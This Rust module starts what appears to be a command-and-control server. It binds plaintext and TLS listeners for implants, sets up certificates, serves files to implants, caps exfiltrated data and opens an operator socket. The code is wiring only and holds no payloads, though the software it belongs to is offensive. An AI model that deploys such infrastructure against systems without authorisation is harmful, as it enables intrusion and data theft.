//! Wires C1–C7 together and drives the `Start` half of the server lifecycle
//! (spec §4.8). `Stop`/`Wait` live on `Lifecycle` itself; this module's job
//! ends once every listener and background task is spawned.

use std::sync::Arc;

use anyhow::Context;
use axum_server::tls_rustls::{RustlsAcceptor, RustlsConfig};
use axum_server::Handle;

use crate::bus::Bus;
use crate::cli::Cli;
use crate::implant::fileserver::FileServer;
use crate::implant::{build_router, AppState, SniCapturingAcceptor};
use crate::lifecycle::{Lifecycle, SHUTDOWN_GRACE};
use crate::operator::OperatorServer;
use crate::paths::Layout;
use crate::state::StateStore;
use crate::tls::acme::AcmeEngine;
use crate::tls::cache::DiskCertCache;
use crate::tls::whitelist::Whitelist;
use crate::tls::CertResolver;

/// ALPN protocols the implant TLS listener offers: ordinary HTTP negotiation
/// plus `acme-tls/1`, which `CertResolver::resolve` recognizes as a
/// TLS-ALPN-01 challenge handshake rather than a real request.
const ALPN_PROTOCOLS: &[&[u8]] = &[b"h2", b"http/1.1", b"acme-tls/1"];

/// `Start` (spec §4.8): bootstrap the working directory, open state, bind
/// both implant listeners and the operator socket, and spawn every
/// background task. Returns the `Lifecycle` handle used to `Stop`/`Wait`.
/// Any error here means nothing has accepted a connection yet; the caller
/// need not unwind anything itself.
pub async fn start(cli: Cli) -> anyhow::Result<Arc<Lifecycle>> {
    let layout = Layout::new(cli.dir.clone());
    layout.bootstrap().context("bootstrapping working directory")?;

    let state = Arc::new(
        StateStore::open(layout.state_json())
            .await
            .context("opening state store")?,
    );
    let bus = Bus::new();
    let lifecycle = Lifecycle::new(bus.clone(), state.clone());
    let shutdown = lifecycle.shutdown_token();

    let le_whitelist = Whitelist::new(&cli.le_domains).context("compiling LE whitelist")?;
    // If neither whitelist is configured, SS defaults to "*" (spec §6): HTTPS
    // is always listening (no disable flag), so an empty default would leave
    // every handshake failing closed out of the box.
    let ss_whitelist = if cli.le_domains.is_empty() && cli.ss_domains.is_empty() {
        Whitelist::new(&["*".to_string()]).context("compiling default self-signed whitelist")?
    } else {
        Whitelist::new(&cli.ss_domains).context("compiling self-signed whitelist")?
    };
    let ss_cache = DiskCertCache::new(layout.tls_cache_dir());

    let acme = if cli.le_domains.is_empty() {
        None
    } else {
        Some(AcmeEngine::new(
            cli.acme_staging,
            cli.acme_email.clone(),
            ss_cache.clone(),
        ))
    };

    let cert_resolver = Arc::new(CertResolver::new(
        le_whitelist,
        ss_whitelist,
        acme.clone(),
        ss_cache,
    ));
    cert_resolver
        .load_or_generate_selfsigned()
        .await
        .context("generating self-signed certificate")?;

    let files = FileServer::new(layout.files_dir());
    let app_state = Arc::new(AppState {
        state: state.clone(),
        bus: bus.clone(),
        cert_resolver: cert_resolver.clone(),
        layout: layout.clone(),
        files,
        exfil_max: cli.exfil_max,
        seen_ids: Default::default(),
        shutdown: shutdown.clone(),
    });
    let make_service = build_router(app_state)
        .into_make_service_with_connect_info::<std::net::SocketAddr>();

    let http_handle = Handle::new();
    {
        let handle = http_handle.clone();
        let make_service = make_service.clone();
        let addr = cli.http_addr;
        tokio::spawn(async move {
            if let Err(err) = axum_server::bind(addr)
                .handle(handle)
                .serve(make_service)
                .await
            {
                crate::logging::log_listener_error(&err, "plaintext implant listener failed");
            }
        });
    }

    let mut tls_config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_cert_resolver(cert_resolver.clone());
    tls_config.alpn_protocols = ALPN_PROTOCOLS.iter().map(|p| p.to_vec()).collect();
    let rustls_config = RustlsConfig::from_config(Arc::new(tls_config));
    let acceptor = SniCapturingAcceptor::new(RustlsAcceptor::new(rustls_config));

    let https_handle = Handle::new();
    {
        let handle = https_handle.clone();
        let addr = cli.https_addr;
        tokio::spawn(async move {
            if let Err(err) = axum_server::bind(addr)
                .acceptor(acceptor)
                .handle(handle)
                .serve(make_service)
                .await
            {
                crate::logging::log_listener_error(&err, "TLS implant listener failed");
            }
        });
    }

    if let Some(acme) = acme {
        let shutdown = shutdown.clone();
        let domains = cli.le_domains.clone();
        tokio::spawn(async move { acme.run(domains, shutdown).await });
    }

    let operator = OperatorServer::bind(&layout.op_sock(), bus.clone(), state.clone(), shutdown.clone())
        .context("binding operator socket")?;
    tokio::spawn(async move { Arc::new(operator).serve().await });

    {
        let lifecycle = lifecycle.clone();
        tokio::spawn(async move {
            if tokio::signal::ctrl_c().await.is_ok() {
                tracing::info!("received Ctrl+C, shutting down");
                lifecycle.stop(None).await;
            }
        });
    }

    {
        let shutdown = shutdown.clone();
        tokio::spawn(async move {
            shutdown.cancelled().await;
            http_handle.graceful_shutdown(Some(SHUTDOWN_GRACE));
            https_handle.graceful_shutdown(Some(SHUTDOWN_GRACE));
        });
    }

    Ok(lifecycle)
}
